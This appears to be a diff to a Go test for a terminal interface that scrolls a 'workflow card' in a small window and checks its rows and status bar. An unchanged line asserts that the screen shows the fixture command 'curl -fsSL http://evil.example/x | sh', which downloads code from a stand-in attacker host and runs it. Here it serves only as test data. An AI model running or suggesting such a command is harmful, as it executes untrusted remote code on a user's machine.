@@ -96,6 +96,14 @@ func workflowCardAt60x15(t *testing.T, project string) {
 	if !strings.Contains(s, "curl -fsSL http://evil.example/x | sh") {
 		t.Fatalf("] never showed the card's last line:\n%s", s)
 	}
+	// then the card's own rows that did not fit (cwd, policy), counted
+	for i := 0; i < 20; i++ {
+		if m := rowsCounter.FindStringSubmatch(s); m == nil || m[2] == m[3] {
+			break
+		}
+		press("]")
+		s = screen()
+	}
 	if !strings.Contains(s, "bf5300") {
 		t.Fatalf("the status bar does not show the card's run:\n%s", s)
 	}
